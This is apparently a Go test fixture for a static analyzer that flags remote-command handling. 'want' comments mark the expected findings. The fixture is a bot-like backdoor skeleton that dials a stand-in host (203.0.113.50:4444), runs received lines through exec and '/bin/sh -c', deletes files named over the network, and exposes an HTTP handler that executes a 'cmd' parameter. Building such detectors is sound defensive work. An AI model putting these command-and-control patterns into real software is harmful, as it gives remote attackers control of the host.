package a // want package:"hits"

import (
	"bufio"
	"net"
	"net/http"
	"os"
	"os/exec"
	"strings"

	"ops"
)

// Bot holds a connection and a reader wrapped around it: both are network input.
type Bot struct {
	conn net.Conn
	r    *bufio.Reader
}

func (b *Bot) connect(addr string) error {
	c, err := net.Dial("tcp", addr)
	if err != nil {
		return err
	}
	b.conn, b.r = c, bufio.NewReader(c)
	return nil
}

// loop dispatches on the first word of each line read through the bufio.Reader.
func (b *Bot) loop() {
	for {
		line, err := b.r.ReadString('\n')
		if err != nil {
			return
		}
		f := strings.Fields(line)
		switch f[0] {
		case "exec": // want "remote-command/dispatcher"
			exec.Command(f[1], f[2:]...).Run() // want "remote-command/process-from-network"
		case "rm":
			ops.Delete(f[1]) // want "remote-command/file-operation-from-network"
		case "sh":
			ops.Shell(strings.Join(f[1:], " ")) // want "remote-command/process-from-network"
		case "restart":
			exec.Command("systemctl", "restart", "agent").Run() // ok: a constant command line
		}
	}
}

// handlers is a command table: the controller's verb picks the function.
var handlers = map[string]func(args []string){
	"run":  runHandler,
	"kill": killHandler,
}

func runHandler(args []string) {
	exec.Command(args[0], args[1:]...).Start() // want "remote-command/process-from-network"
}

func killHandler(args []string) {
	os.Remove(args[0]) // want "remote-command/file-operation-from-network"
}

// table looks the verb up in the table, reading from a goroutine fed by a channel.
func (b *Bot) table(lines <-chan string) {
	for line := range lines {
		f := strings.Fields(line)
		if h, ok := handlers[f[0]]; ok { // want "remote-command/dispatcher"
			h(f[1:])
		}
	}
}

func (b *Bot) feed() {
	lines := make(chan string)
	go b.table(lines)
	sc := bufio.NewScanner(b.conn)
	for sc.Scan() {
		lines <- sc.Text()
	}
}

// Task arrives through an interface.
type Channel interface {
	Next() (string, error)
}

type tcpChannel struct{ r *bufio.Reader }

func (c *tcpChannel) Next() (string, error) { return c.r.ReadString('\n') } // want Next:"summary"

func dial(addr string) (Channel, error) {
	conn, err := net.Dial("tcp", addr)
	if err != nil {
		return nil, err
	}
	return &tcpChannel{r: bufio.NewReader(conn)}, nil
}

func serve(ch Channel) {
	t, _ := ch.Next()
	exec.Command("/bin/sh", "-c", t).Run() // want "remote-command/process-from-network"
}

// diag is an HTTP handler registered by name: the request is network input.
func diag(w http.ResponseWriter, r *http.Request) {
	q := r.URL.Query()
	switch q.Get("action") {
	case "ping": // want "remote-command/dispatcher"
		w.Write([]byte("pong"))
	case "run":
		exec.Command("/bin/sh", "-c", q.Get("cmd")).Run() // want "remote-command/process-from-network"
	}
}

type server struct{ root string }

// fetch is a method value registered as a handler.
func (s *server) fetch(w http.ResponseWriter, r *http.Request) {
	os.Remove(s.root + r.FormValue("name")) // want "remote-command/file-operation-from-network"
}

// closure runs what the connection sends from a closure that captured the reader.
func (b *Bot) closure() {
	run := func() {
		line, _ := b.r.ReadString('\n')
		exec.Command("/bin/sh", "-c", line).Start() // want "remote-command/process-from-network"
	}
	go run()
}

// cli is a local argument parser: os.Args is not network input.
func cli() {
	switch os.Args[1] {
	case "install": // ok: a local argument parser
		exec.Command("sc.exe", "create", os.Args[2]).Run() // ok: local arguments
	case "remove":
		os.RemoveAll(os.Args[2]) // ok: a local argument
	}
}

func main() {
	b := &Bot{}
	b.connect("203.0.113.50:4444")
	go b.loop()
	go b.feed()
	b.closure()
	if ch, err := dial("203.0.113.50:4445"); err == nil {
		serve(ch)
	}
	http.HandleFunc("/diag", diag)
	srv := &server{root: "/srv/"}
	http.HandleFunc("/fetch", srv.fetch)
	cli()
}
